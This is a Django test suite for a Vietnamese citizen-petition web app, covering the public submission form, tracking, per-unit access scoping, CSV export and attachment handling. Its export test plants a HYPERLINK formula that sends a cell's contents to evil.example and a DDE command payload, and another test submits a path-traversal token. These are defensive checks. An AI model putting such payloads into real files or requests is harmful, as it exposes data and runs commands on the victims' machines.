from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from danvan.conftest import client_for
from danvan.core.models import AuditEntry
from danvan.petitions import services
from danvan.petitions.models import Attachment, Petition
from danvan.petitions.tests.conftest import PNG

pytestmark = pytest.mark.django_db


def test_a_citizen_submits_the_public_form_without_an_account_and_gets_a_receipt(client, make_data):
    response = client.post(
        "/petitions/gui-don/", {**make_data(), "attachments": SimpleUploadedFile("a.png", PNG)}
    )
    assert response.status_code == 302
    petition = Petition.objects.get()
    assert petition.channel == "web" and petition.attachments.count() == 1
    receipt = client.get(response["Location"]).content.decode()
    assert petition.tracking_code in receipt


def test_the_confirmation_key_is_shown_once_on_the_receipt_and_never_written_to_the_session(
    client, make_data
):
    from django.contrib.sessions.models import Session

    response = client.post("/petitions/gui-don/", make_data())
    petition = Petition.objects.get()
    assert response.status_code == 302 and Session.objects.count() == 0
    from django.test import Client

    other = Client()
    assert 'data-testid="citizen-key"' not in other.get(response["Location"]).content.decode()
    page = client.get(response["Location"]).content.decode()
    assert 'data-testid="citizen-key"' in page
    key = page.split('data-testid="citizen-key">', 1)[1].split("<", 1)[0]
    assert services.citizen_key_digest(key) == petition.citizen_key_hash
    assert 'data-testid="citizen-key"' not in client.get(response["Location"]).content.decode()
    assert Session.objects.count() == 0


def test_the_public_form_shows_vietnamese_errors_and_keeps_nothing(client, make_data):
    response = client.post("/petitions/gui-don/", make_data(kind="complaint", title=""))
    assert response.status_code == 400
    page = response.content.decode()
    assert "Hãy nhập tiêu đề ngắn gọn của đơn." in page and "quyết định hoặc hành vi bị khiếu nại" in page
    assert Petition.objects.count() == 0


def test_a_bot_filling_the_honeypot_is_answered_politely_and_nothing_is_saved(client, make_data):
    response = client.post("/petitions/gui-don/", {**make_data(), "website": "http://spam.example"})
    assert response.status_code == 200 and Petition.objects.count() == 0


def test_the_public_form_is_rate_limited_per_client(client, make_data, settings):
    settings.PETITIONS_RATE_LIMIT_PER_HOUR = 2
    codes = [client.post("/petitions/gui-don/", make_data()).status_code for _ in range(3)]
    assert codes == [302, 302, 429]
    assert Petition.objects.count() == 2
    other = client.post("/petitions/gui-don/", make_data(), REMOTE_ADDR="10.0.0.9")
    assert other.status_code == 302


def test_the_tracking_page_shows_status_and_the_published_answer_but_no_personal_data(
    client, make_data, alice
):
    p = services.submit_petition(actor=None, channel="web", data=make_data())
    for move in (services.accept, services.start):
        p = move(actor=alice, petition=p)
    services.resolve(actor=alice, petition=p, answer="Xã đã sửa xong đoạn đường.", answer_public=True)
    page = client.get(f"/petitions/tra-cuu/?code={p.tracking_code.lower()}").content.decode()
    assert "Đã giải quyết" in page and "Xã đã sửa xong đoạn đường." in page
    assert "Nguyễn Văn Bình" not in page and "0912345678" not in page and "Thôn 3" not in page


def test_an_unknown_tracking_code_gets_a_clear_message(client):
    response = client.get("/petitions/tra-cuu/?code=DV-AAAA-BBBB-CCCC")
    assert response.status_code == 404
    assert "Không tìm thấy hồ sơ với mã này" in response.content.decode()


def test_the_citizen_rates_by_code_and_confirmation_key_after_closure(client, make_data, alice):
    p = services.submit_petition(actor=None, channel="web", data=make_data())
    key = p.citizen_key
    for move in (services.accept, services.start):
        p = move(actor=alice, petition=p)
    p = services.resolve(actor=alice, petition=p, answer="Xong.")
    services.close(actor=alice, petition=p)
    response = client.post(
        f"/petitions/tra-cuu/{p.tracking_code}/danh-gia/", {"rating": "5", "key": key}, follow=True
    )
    assert "Cảm ơn bạn đã đánh giá" in response.content.decode()
    assert Petition.objects.get(pk=p.pk).rating == 5


def test_an_officer_of_commune_a_sees_its_petitions_and_gets_404_for_commune_b(make_data, alice, units):
    mine = services.submit_petition(actor=None, channel="web", data=make_data(title="Đơn của xã A"))
    other = services.submit_petition(
        actor=None, channel="web", data=make_data(title="Đơn của xã B", place_code=units.commune_b.code)
    )
    c = client_for(alice)
    listing = c.get("/petitions/").content.decode()
    assert "Đơn của xã A" in listing and "Đơn của xã B" not in listing
    assert c.get(f"/petitions/{mine.pk}/").status_code == 200
    assert c.get(f"/petitions/{other.pk}/").status_code == 404
    assert c.post(f"/petitions/{other.pk}/accept/", {"version": other.version}).status_code == 404
    export = b"".join(c.get("/petitions/xuat.csv").streaming_content).decode()
    assert mine.tracking_code in export and other.tracking_code not in export
    assert AuditEntry.objects.filter(action="export", actor_id=alice.pk).exists()


def test_the_province_supervisor_filters_by_unit_subtree_kind_and_state(make_data, carol, units):
    a = services.submit_petition(actor=None, channel="web", data=make_data())
    b = services.submit_petition(actor=None, channel="web", data=make_data(place_code=units.commune_b.code))
    c = client_for(carol)
    assert c.get("/petitions/").context["page"].paginator.count == 2
    assert list(c.get(f"/petitions/?unit={units.commune_b.code}").context["page"]) == [b]
    assert list(c.get("/petitions/?kind=feedback&state=received").context["page"]) == [b, a]
    assert list(c.get("/petitions/?kind=complaint").context["page"]) == []
    # a supervisor reads but cannot act
    assert c.post(f"/petitions/{a.pk}/accept/", {"version": a.version}).status_code in (302, 403)
    assert Petition.objects.get(pk=a.pk).state == "received"


def test_an_officer_accepts_through_the_page_and_a_stale_form_is_told_someone_else_acted(
    make_data, alice, hanna
):
    p = services.submit_petition(actor=None, channel="web", data=make_data())
    response = client_for(alice).post(f"/petitions/{p.pk}/accept/", {"version": p.version}, follow=True)
    assert "Đã cập nhật đơn." in response.content.decode()
    stale = client_for(hanna).post(
        f"/petitions/{p.pk}/refuse/", {"version": p.version, "reason": "x", "confirm": "on"}, follow=True
    )
    assert "vừa được người khác cập nhật" in stale.content.decode()
    assert Petition.objects.get(pk=p.pk).state == "accepted"


def test_attachments_are_downloaded_only_through_the_scope_as_attachments_with_nosniff(make_data, alice, bob):
    p = services.submit_petition(
        actor=None, channel="web", data=make_data(), files=[SimpleUploadedFile("ảnh hiện trường.png", PNG)]
    )
    attachment = Attachment.objects.get(petition=p)
    response = client_for(alice).get(f"/petitions/tep/{attachment.pk}/")
    assert response.status_code == 200 and response.content == PNG
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff" and response["Content-Type"] == "image/png"
    assert client_for(bob).get(f"/petitions/tep/{attachment.pk}/").status_code == 404


def test_desk_entry_by_an_officer_creates_a_petition_of_her_unit(alice, make_data, units):
    response = client_for(alice).post("/petitions/tiep-nhan/", make_data(place_code=""))
    assert response.status_code == 302
    assert Petition.objects.get().channel == "desk"


def test_the_dashboard_card_counts_overdue_and_due_soon_in_scope(alice, make_data):
    services.submit_petition(actor=None, channel="web", data=make_data())
    page = client_for(alice).get("/dashboard/").content.decode()
    assert 'data-testid="petitions-card"' in page


def test_the_csv_export_neutralises_a_title_and_a_sender_that_a_spreadsheet_would_run_as_formulas(
    make_data, alice, carol
):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Xem chi tiết")'
    sender = "+cmd|' /C calc'!A0"
    p = services.submit_petition(
        actor=alice, channel="desk", data=make_data(title=title, petitioner_name=sender)
    )
    export = b"".join(client_for(carol).get("/petitions/xuat.csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(export)))
    row = next(r for r in rows if r[0] == p.tracking_code)
    assert row[7] == "'" + title and row[8] == "'" + sender
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r)


def test_each_error_of_the_public_form_is_shown_once_with_a_summary_linking_to_its_field(client, make_data):
    response = client.post("/petitions/gui-don/", make_data(kind="complaint", title=""))
    page = response.content.decode()
    assert page.count("Hãy nhập tiêu đề ngắn gọn của đơn.") == 2  # in the summary and under the field
    assert page.count('class="field-error"') == page.count("<li><a href=")  # one per summary line
    assert '<a href="#id_title">' in page
    assert 'aria-describedby="id_title_error"' in page and 'id="id_title_error"' in page


def test_the_required_place_of_the_public_form_has_an_asterisk_and_the_kind_a_vietnamese_placeholder(client):
    page = client.get("/petitions/gui-don/").content.decode()
    label = page.split('for="id_address"', 1)[1].split("</label>", 1)[0]
    assert 'class="req"' in label
    assert '<option value="" selected>— Chọn loại đơn —</option>' in page


def test_the_files_a_citizen_attached_are_kept_after_an_error_and_sent_with_the_retry(client, make_data):
    first = client.post(
        "/petitions/gui-don/",
        {
            **make_data(title=""),
            "attachments": [SimpleUploadedFile("anh.png", PNG), SimpleUploadedFile("b.png", PNG)],
        },
    )
    assert first.status_code == 400
    token = first.context["held"].token
    assert first.context["held"].names == ["anh.png", "b.png"]
    assert "anh.png" in first.content.decode()
    retry = client.post("/petitions/gui-don/", {**make_data(), "held_files": token, "drop_held": ["1"]})
    assert retry.status_code == 302
    petition = Petition.objects.get()
    assert list(petition.attachments.values_list("original_name", flat=True)) == ["anh.png"]


def test_a_forged_or_expired_held_files_token_brings_back_nothing(client, make_data):
    response = client.post("/petitions/gui-don/", {**make_data(), "held_files": "../../etc:forged"})
    assert response.status_code == 302
    assert Petition.objects.get().attachments.count() == 0
